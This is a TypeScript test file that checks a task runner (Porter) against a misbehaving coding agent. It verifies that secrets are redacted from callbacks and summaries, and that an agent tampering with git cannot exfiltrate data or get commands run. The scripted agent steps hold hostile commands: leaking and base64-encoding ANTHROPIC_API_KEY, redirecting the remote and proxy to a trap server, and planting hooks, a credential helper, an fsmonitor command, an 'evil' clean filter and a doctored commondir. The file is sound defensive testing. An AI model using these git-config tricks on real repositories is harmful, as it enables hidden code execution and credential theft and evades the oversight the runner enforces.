/**
 * What leaves the machine, end to end with the script agent: secrets scrubbed from every callback and the summary; the
 * task token only in the environment of the clone (never in argv, a URL, a file of the clone) and only sent to
 * Porter; and an agent that rewrote git's configuration (remote, proxy, hooks, credential helper, fsmonitor, a
 * `commondir` pointing at a copy of `.git`, HOME's `.gitconfig`) neither gets its commands run by the runner's git
 * nor changes what is proposed.
 */
import { assert, layer } from "@effect/vitest"
import { ExitCode } from "@porter/runner"
import { Effect } from "effect"
import { execFileSync } from "node:child_process"
import { chmodSync, existsSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs"
import { createServer } from "node:http"
import type { AddressInfo } from "node:net"
import { join } from "node:path"
import { Fixture } from "./support/Fixture.ts"
import { tempDir } from "./support/Harness.ts"
import { runTask, script } from "./support/RunTask.ts"

/** Every file under `dir`. */
const walk = (dir: string): Array<string> =>
  readdirSync(dir).flatMap((name) => {
    const path = join(dir, name)
    return statSync(path).isDirectory() ? walk(path) : [path]
  })

/** A server that records every request (as a remote, as a proxy) and answers 502. */
const trap = Effect.acquireRelease(
  Effect.promise(async () => {
    const requests: Array<string> = []
    const server = createServer((request, response) => {
      requests.push(`${request.method} ${request.url} ${request.headers.authorization ?? ""}`)
      response.writeHead(502).end()
    })
    server.on("connect", (request, socket) => {
      requests.push(`CONNECT ${request.url}`)
      socket.destroy()
    })
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve))
    return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, requests, server }
  }),
  ({ server }) =>
    Effect.promise(() =>
      new Promise<void>((resolve) => {
        server.closeAllConnections()
        server.close(() => resolve())
      })
    )
)

/** A `git` first on PATH that logs its argv to `log`, then runs the real git. */
const gitShim = (log: string): string => {
  const dir = tempDir("porter-shim-")
  const real = execFileSync("sh", ["-c", "command -v git"], { encoding: "utf8" }).trim()
  writeFileSync(join(dir, "git"), `#!/bin/sh\nprintf '%s\\n' "$*" >> '${log}'\nexec '${real}' "$@"\n`)
  chmodSync(join(dir, "git"), 0o755)
  return dir
}

layer(Fixture.layer, { excludeTestServices: true, timeout: 120_000 })("what leaves the machine", (it) => {
  it.effect("never lets a secret leave the machine: callbacks and summary are scrubbed; the agent has no task token", () =>
    Effect.gen(function*() {
      const { porter } = yield* Fixture
      const key = "sk-ant-api03-Very5ecretKeyValue_0123456789"
      const run = yield* runTask({
        extra: { ANTHROPIC_API_KEY: key },
        instruction: script(
          "write notes.txt changed",
          "run echo \"my key is $ANTHROPIC_API_KEY\"",
          "run printf %s \"$ANTHROPIC_API_KEY\" | base64",
          "run echo \"github=${GITHUB_TOKEN:-unset} callback=${CALLBACK_TOKEN:-unset}\"",
          `print summary mentions ${key} and ${porter.token}`,
          `run echo "the token is ${porter.token}" >&2`
        )
      })
      assert.strictEqual(run.exit.code, ExitCode.Ok, run.exit.stderr)
      for (const secret of [key, porter.token, Buffer.from(key).toString("base64")]) {
        assert.notInclude(run.everything, secret)
      }
      const tail = String(run.completed!["logTail"])
      assert.include(tail, "my key is [redacted]")
      assert.include(tail, "github=unset callback=unset")
      assert.include(String(run.completed!["summary"]), "summary mentions [redacted] and [redacted]")
      assert.include(run.changeSet!.summary, "summary mentions [redacted] and [redacted]")
    }))

  it.effect("keeps the task token out of the clone, its remote URL and every git command line", () =>
    Effect.gen(function*() {
      const { porter } = yield* Fixture
      const workdir = tempDir("porter-workdir-")
      const argv = join(tempDir("porter-argv-"), "argv.log")
      const run = yield* runTask({
        instruction: script("write a.txt a"),
        extra: { PORTER_WORKDIR: workdir, PATH: `${gitShim(argv)}:${process.env["PATH"] ?? ""}` }
      })
      assert.strictEqual(run.exit.code, ExitCode.Ok, run.exit.stderr)
      const clone = join(workdir, run.repo.split("/")[1]!)
      const git = (args: ReadonlyArray<string>) =>
        execFileSync("git", ["-C", clone, ...args], { encoding: "utf8" }).trim()
      assert.strictEqual(git(["config", "--get", "remote.origin.url"]), run.env["REPO_CLONE_URL"])
      assert.notInclude(readFileSync(join(clone, ".git", "config"), "utf8"), "extraHeader")
      for (const file of walk(clone)) assert.notInclude(readFileSync(file).toString("latin1"), porter.token, file)
      // The runner's git calls (clone, commit, the change set's plumbing), seen through the shim on PATH.
      const commands = readFileSync(argv, "utf8")
      for (const command of ["clone --depth 1", "commit --no-verify", "diff-tree -r", "cat-file --batch"]) {
        assert.include(commands, command)
      }
      assert.notInclude(commands, porter.token)
      // The token went to Porter only: its callbacks, its git proxy, its change set endpoint.
      assert.isAbove(porter.gitRequests(run.taskId).length, 0)
      assert.strictEqual(run.changes.length, 1)
    }))

  it.effect("an agent that rewrote .git/config and HOME's .gitconfig: nothing of it runs, the change set is right", () =>
    Effect.gen(function*() {
      const { porter } = yield* Fixture
      const elsewhere = yield* trap
      const marks = tempDir("porter-marks-")
      const mark = join(marks, "ran")
      const hooks = tempDir("porter-hooks-")
      for (const hook of ["pre-commit", "post-commit", "commit-msg", "reference-transaction"]) {
        writeFileSync(join(hooks, hook), `#!/bin/sh\necho ${hook} >> '${mark}'\n`)
        chmodSync(join(hooks, hook), 0o755)
      }
      const home = tempDir("porter-home-")
      const run = yield* runTask({
        extra: { HOME: home, PORTER_WORKDIR: tempDir("porter-workdir-") },
        instruction: script(
          "write feature.txt the agent's work",
          `run git remote set-url origin ${elsewhere.url}/stolen.git`,
          `run git config http.proxy ${elsewhere.url}`,
          `run git config core.hooksPath ${hooks}`,
          `run git config credential.helper '!f() { echo credential >> ${mark}; }; f'`,
          `run git config core.fsmonitor 'echo fsmonitor >> ${mark}'`,
          `run git config --global core.hooksPath ${hooks}`,
          `run git config --global http.proxy ${elsewhere.url}`,
          `run cp ${hooks}/pre-commit .git/hooks/pre-commit`
        )
      })
      assert.strictEqual(run.exit.code, ExitCode.Ok, run.exit.stdout + run.exit.stderr)
      assert.deepStrictEqual(run.changeSet!.commits.flatMap((c) => c.changes.map((ch) => ch.path)), ["feature.txt"])
      assert.strictEqual(run.show(`${run.branch}:feature.txt`), "the agent's work")
      assert.isFalse(existsSync(mark), existsSync(mark) ? readFileSync(mark, "utf8") : "")
      assert.deepStrictEqual(elsewhere.requests, [])
      assert.isTrue(run.changes.every((c) => c.authorization === `Bearer ${porter.token}`))
    }).pipe(Effect.scoped))

  it.effect("an agent that pointed .git/commondir at a doctored copy of .git (proxy, hooks, a clean filter)", () =>
    Effect.gen(function*() {
      const elsewhere = yield* trap
      const mark = join(tempDir("porter-marks-"), "ran")
      const copy = join(tempDir("porter-copy-"), "git")
      const run = yield* runTask({
        instruction: script(
          "write feature.txt the agent's work",
          `run cp -r .git ${copy}`,
          `run git config -f ${copy}/config http.proxy ${elsewhere.url}`,
          `run git config -f ${copy}/config core.hooksPath ${copy}/hooks`,
          `run printf '#!/bin/sh\\necho hook >> ${mark}\\n' > ${copy}/hooks/pre-commit && chmod +x ${copy}/hooks/pre-commit`,
          `run git config -f ${copy}/config filter.evil.clean 'sh -c "echo filter >> ${mark}; cat"'`,
          `run mkdir -p ${copy}/info && echo '* filter=evil' > ${copy}/info/attributes`,
          `run echo ${copy} > .git/commondir`
        )
      })
      assert.strictEqual(run.exit.code, ExitCode.Ok, run.exit.stdout + run.exit.stderr)
      assert.deepStrictEqual(run.changeSet!.commits.flatMap((c) => c.changes.map((ch) => ch.path)), ["feature.txt"])
      assert.strictEqual(run.show(`${run.branch}:feature.txt`), "the agent's work")
      assert.isFalse(existsSync(mark), existsSync(mark) ? readFileSync(mark, "utf8") : "")
      assert.deepStrictEqual(elsewhere.requests, [])
    }).pipe(Effect.scoped))
})
